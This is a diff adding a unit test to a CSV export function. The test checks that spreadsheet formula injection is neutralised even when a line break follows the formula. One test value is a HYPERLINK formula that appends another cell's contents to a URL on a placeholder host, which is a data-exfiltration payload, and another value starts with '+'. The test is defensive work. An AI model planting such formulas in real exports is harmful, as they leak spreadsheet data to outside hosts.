@@ -32,6 +32,13 @@ describe('toCsv', () => {
     expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""x"")",-5,"'@SUM(A1)"`);
   });
 
+  it("defuses a formula followed by a line break (a sign-in name, a requester's text)", () => {
+    const csv = toCsv([{ name: '=HYPERLINK("https://x.example/?"&B2,"x")\n', amount: 1, note: '+1\r\n2' }], columns);
+    const [row] = Papa.parse<string[]>(csv.slice(1).trimEnd(), { newline: '\r\n' }).data.slice(1);
+    expect(row[0]).toBe(`'=HYPERLINK("https://x.example/?"&B2,"x")\n`);
+    expect(row[2]).toBe(`'+1\r\n2`);
+  });
+
   it('supports the semicolon Czech Excel expects', () => {
     expect(toCsv([{ name: 'a;b', amount: 1.5 }], columns, ';').split('\r\n')[1]).toBe('"a;b";1.5;');
   });
